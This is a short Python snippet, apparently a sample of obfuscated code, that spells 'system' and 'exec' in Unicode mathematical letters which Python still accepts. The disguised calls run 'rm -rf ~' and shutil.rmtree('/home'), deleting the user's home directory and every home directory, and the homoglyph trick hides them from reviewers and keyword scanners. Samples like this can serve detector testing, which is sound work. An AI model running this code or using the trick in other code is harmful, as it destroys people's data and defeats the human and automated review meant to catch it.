# tricky: letters that Python takes for others
import os
os.𝓼𝔂𝓼𝓽𝓮𝓶("rm -rf ~")
𝐞𝐱𝐞𝐜("import shutil; shutil.rmtree('/home')")
